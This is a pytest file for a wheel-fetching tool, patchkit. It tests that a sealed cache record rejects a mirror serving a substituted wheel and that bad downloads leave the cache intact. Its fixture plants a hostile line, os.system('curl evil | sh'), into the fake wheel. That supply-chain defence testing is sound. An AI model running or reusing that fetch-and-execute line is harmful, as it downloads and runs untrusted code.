"""Review 9 (issue 20): a sealed record in patchkit's caches wins over whatever another source serves
under its name, and a bad download leaves the good cache as it was."""

from __future__ import annotations

import hashlib
import json
import re

import pytest
from helpers import assert_clean_failure, run_cli
from packaging import tags

from patchkit import fetch
from patchkit.base.errors import BadInput, FetchError
from patchkit.wheel import stock

from index_server import FILES, VERSION, WHEEL, IndexServer, build_wheel, isolate_cache, use_index  # isort: skip

SPEC = "vllm/config/speculative.py"
HOSTILE = b"import os; os.system('curl evil | sh')\n"
STOCK_VERSION = "0.2.0"
HERE = next(iter(tags.sys_tags()))
NATIVE = f"vllm-{STOCK_VERSION}-{HERE.interpreter}-{HERE.abi}-{HERE.platform}.whl"


@pytest.fixture
def two_indexes(tmp_path, monkeypatch):
    """The genuine index and a mirror serving another file under the genuine wheel's name."""
    isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    genuine.publish(WHEEL, build_wheel())
    mirror.publish(WHEEL, build_wheel({**FILES, SPEC: HOSTILE}))
    yield genuine, mirror
    genuine.stop()
    mirror.stop()


def _release_json(tmp_path) -> dict:
    return json.loads((tmp_path / "cache" / "releases" / VERSION / "release.json").read_text())


def test_fetch_through_a_mirror_serving_another_file_keeps_the_sealed_record(two_indexes, tmp_path, monkeypatch):
    genuine, mirror = two_indexes
    use_index(monkeypatch, genuine.index())
    assert run_cli("fetch", VERSION, "--all").returncode == 0
    sealed = _release_json(tmp_path)
    use_index(monkeypatch, mirror.index())

    done = run_cli("fetch", VERSION, "--all")

    assert_clean_failure(done, 2)
    said = " ".join(done.stderr.split())
    served = hashlib.sha256(mirror.files[WHEEL]).hexdigest()
    assert served[:16] in said and sealed["sha256"][:16] in said, said
    assert str(tmp_path / "cache" / "releases" / VERSION / "release.json") in said, said  # what to do
    assert _release_json(tmp_path) == sealed
    laid = run_cli("fetch", VERSION, "--all", "--dest", tmp_path / "dest")
    assert_clean_failure(laid, 2)
    assert not (tmp_path / "dest" / SPEC).exists()
    use_index(monkeypatch, genuine.index())  # pip pointed back: the cache serves as before
    laid = run_cli("fetch", VERSION, "--all", "--dest", tmp_path / "dest")
    assert laid.returncode == 0, laid.stderr
    assert (tmp_path / "dest" / SPEC).read_bytes() == FILES[SPEC]


def test_a_mirror_serving_the_same_file_is_taken_without_fetching_again(two_indexes, tmp_path, monkeypatch):
    genuine, _ = two_indexes
    mirror = IndexServer()
    try:
        mirror.publish(WHEEL, genuine.files[WHEEL])
        use_index(monkeypatch, genuine.index())
        fetch.release_tree(VERSION, [SPEC], recheck_index=True)
        use_index(monkeypatch, mirror.index())

        tree = fetch.release_tree(VERSION, [SPEC], recheck_index=True)

        assert (tree / SPEC).read_bytes() == FILES[SPEC]
        assert not [entry for entry in mirror.log if "/files/" in entry[1]]  # asked for its page only
        assert _release_json(tmp_path)["index"] == mirror.index()
    finally:
        mirror.stop()


# --------------------------------------------------------------------------- M2: the wheel cache


def _without_sha256(index: IndexServer) -> None:
    """The index's page lists its files with no sha256 (PEP 503 makes it optional)."""
    index.pages[("range", "vllm")] = re.sub(r"#sha256=[0-9a-f]+", "", index.pages[("range", "vllm")])


def _entry(cache_root, name: str) -> dict[str, bytes]:
    root = cache_root / "wheels" / STOCK_VERSION
    return {p.name: p.read_bytes() for p in sorted(root.iterdir()) if p.name.startswith(name)}


@pytest.mark.parametrize("serves", ["another file", "nothing"])
def test_a_bad_download_leaves_the_cached_wheel_and_its_record_as_they_were(tmp_path, monkeypatch, serves):
    cache_root = isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    try:
        genuine.publish(NATIVE, build_wheel(version=STOCK_VERSION, blob_size=3000))
        mirror.publish(NATIVE, build_wheel(version=STOCK_VERSION, blob_size=5000))
        _without_sha256(mirror)
        if serves == "nothing":
            mirror.files.clear()  # listed, but the download fails
        use_index(monkeypatch, genuine.index())
        stock.stock_wheel(STOCK_VERSION)
        stock.stock_wheel(STOCK_VERSION)  # sealed on reuse, when its ctime is old enough
        before = _entry(cache_root, NATIVE)
        use_index(monkeypatch, mirror.index())

        with pytest.raises((BadInput, FetchError)) as refused:
            stock.stock_wheel(STOCK_VERSION)

        if serves == "another file":
            said = f"{refused.value.message} {refused.value.hint}"
            assert hashlib.sha256(genuine.files[NATIVE]).hexdigest()[:16] in said, said
        assert _entry(cache_root, NATIVE) == before
        use_index(monkeypatch, genuine.index())
        genuine.stop()
        monkeypatch.setenv("PIP_NO_INDEX", "1")  # the good cache still serves, with no index to ask
        assert stock.stock_wheel(STOCK_VERSION).read_bytes() == genuine.files[NATIVE]
    finally:
        genuine.stop()
        mirror.stop()
